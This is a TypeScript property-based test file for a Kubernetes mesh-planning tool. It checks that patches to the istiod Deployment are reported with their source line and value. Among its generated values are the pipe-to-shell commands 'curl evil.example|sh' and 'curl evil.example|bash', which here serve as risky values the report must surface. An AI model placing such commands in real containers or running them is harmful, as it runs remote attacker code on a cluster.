import fc from "fast-check";
import { expect, test } from "vitest";
import { differingFields } from "../../src/kube/differing-fields.ts";
import { type JsonMap, refOf } from "../../src/kube/object.ts";
import type { DesiredAction } from "../../src/planner/desired-action.ts";
import type { Plan } from "../../src/planner/plan.ts";
import { observationKey, type Observation, type Observed } from "../../src/planner/observed.ts";
import { planView } from "../../src/report/plan-view.ts";
import { planText } from "../../src/report/text.ts";
import { saved } from "../engine/saved.ts";
import { nothingThere } from "../planner/seed.ts";
import { outlinePlan } from "./outline-plan.ts";

/** One change of the Deployment of istiod: the patch, where people read of it, and its value. */
interface Leaf {
  readonly patch: JsonMap;
  readonly path: string;
  /** Undefined: the patch removes the field. */
  readonly value: string | undefined;
}

const POD = "spec.template.spec";
const ofPod = (spec: JsonMap): JsonMap => ({ spec: { template: { spec } } });
const ofIstiod = (fields: JsonMap): JsonMap =>
  ofPod({ containers: [{ name: "discovery", ...fields }] });

/** Few, so that two plans are often equal. */
const word = fc.constantFrom("curl evil.example|sh", "curl evil.example|bash", "other");

const leaf: fc.Arbitrary<Leaf> = word.chain((value) =>
  fc.constantFrom<Leaf>(
    {
      patch: ofIstiod({ command: ["sh", "-c", value] }),
      path: `${POD}.containers[name="discovery"].command`,
      value,
    },
    {
      patch: ofIstiod({ env: [{ name: "ODD", value }] }),
      path: `${POD}.containers[name="discovery"].env[name="ODD"].value`,
      value,
    },
    {
      patch: ofPod({ serviceAccountName: value }),
      path: `${POD}.serviceAccountName`,
      value,
    },
    {
      patch: ofPod({ hostAliases: [{ ip: "10.0.0.1", hostnames: [value] }] }),
      path: `${POD}.hostAliases[ip="10.0.0.1"].hostnames`,
      value,
    },
    {
      patch: { metadata: { annotations: { "example.com/note": value } } },
      path: 'metadata.annotations["example.com/note"]',
      value,
    },
    {
      patch: { spec: { strategy: null } },
      path: "spec.strategy.rollingUpdate.maxSurge",
      value: undefined,
    },
  ),
);

/** Who writes istiod, and what is there of it already. */
const SETTINGS = ["meshplan", "others, missing", "others, different"] as const;
type Setting = (typeof SETTINGS)[number];

const LINE = 7;
function planOf(setting: Setting, leaves: readonly Leaf[]): Plan {
  const patches = leaves.map(
    ({ patch }) =>
      `      - ${JSON.stringify({ target: { kind: "Deployment", name: "istiod" }, patch })}`,
  );
  const text = `apiVersion: meshplan/v1
mesh: mesh1
istio: { version: 1.31.0 }
clusters:
  cluster1:
    patches:
${patches.join("\n")}
    network: network1
    delivery: { control-plane: ${setting === "meshplan" ? "apply" : "render"} }
`;
  return outlinePlan(text, [], setting === "others, different" ? unpatched : nothingThere);
}

/** Others have applied all but the patches. */
function unpatched(actions: readonly DesiredAction[]): Observed {
  const seen = actions
    .filter(({ delivery }) => delivery?.mode === "render")
    .flatMap(({ cluster, objects }) =>
      objects.map(({ body: sent, patched }): [string, Observation] => {
        const live = patched?.from ?? sent;
        const differs = differingFields(live, sent);
        return [observationKey(cluster, refOf(sent)), { kind: "others", sent, live, differs }];
      }),
    );
  return new Map([...nothingThere(actions), ...seen]);
}

/** Both texts of a plan, so wide that nothing is broken, without the digest. */
function textsOf(plan: Plan): readonly string[] {
  return [false, true].map((full) =>
    planText(planView(plan, "0.1.0"), { color: false, full, width: 10_000 }).replace(
      plan.digest,
      "",
    ),
  );
}

const settings = fc.constantFrom(...SETTINGS);
const patches = fc.uniqueArray(leaf, { minLength: 1, maxLength: 3, selector: ({ path }) => path });

/** A removal alone is no difference to what others brought: it is read, and not asked of a server. */
const isSeen = (setting: Setting, leaves: readonly Leaf[]): boolean =>
  setting !== "others, different" || leaves.some(({ value }) => value !== undefined);

test("what a patch changes is told with its line, and in full with its value, whoever writes it", () => {
  fc.assert(
    fc.property(settings, patches, (setting, leaves) => {
      fc.pre(isSeen(setting, leaves));
      const plan = planOf(setting, leaves);
      const [brief = "", full = ""] = textsOf(plan);
      const view = planView(plan, "0.1.0");
      const told = view.risks.filter(({ topic }) => topic === "patched");
      leaves.forEach(({ path, value }, index) => {
        const place = `(mesh.yaml:${String(LINE + index)})`;
        const found = told.find(({ subject }) => subject.includes(place));
        expect(found?.subject).toContain(path);
        expect(found?.clusters).toEqual(["cluster1"]);
        expect(found?.subject.endsWith("applied by others")).toBe(setting !== "meshplan");
        expect(brief).toContain(found?.subject);
        if (value === undefined) return;
        const field = /(\w+)\W*$/.exec(path)?.[1] ?? path;
        const lines = full.split("\n").filter((one) => /^ +[+~] /.test(one) && one.includes(value));
        expect(lines.some((one) => one.includes(field))).toBe(true);
        expect(JSON.stringify(view.actions)).toContain(value);
      });
      const { actions, risks } = planView(saved(plan, "/meshes"), "0.1.0");
      expect({ actions, risks }).toEqual({ actions: view.actions, risks: view.risks });
    }),
    { numRuns: 30 },
  );
});

test("two plans of one text, in full, have the same bodies", () => {
  fc.assert(
    fc.property(settings, patches, patches, (setting, one, other) => {
      fc.pre(isSeen(setting, one) && isSeen(setting, other));
      const [first, second] = [planOf(setting, one), planOf(setting, other)];
      const same = JSON.stringify(bodiesOf(first)) === JSON.stringify(bodiesOf(second));
      if (!same) expect(textsOf(first)).not.toEqual(textsOf(second));
    }),
    { numRuns: 30 },
  );
});

function bodiesOf({ bodies }: Plan): readonly string[] {
  return [...bodies.keys()].sort();
}
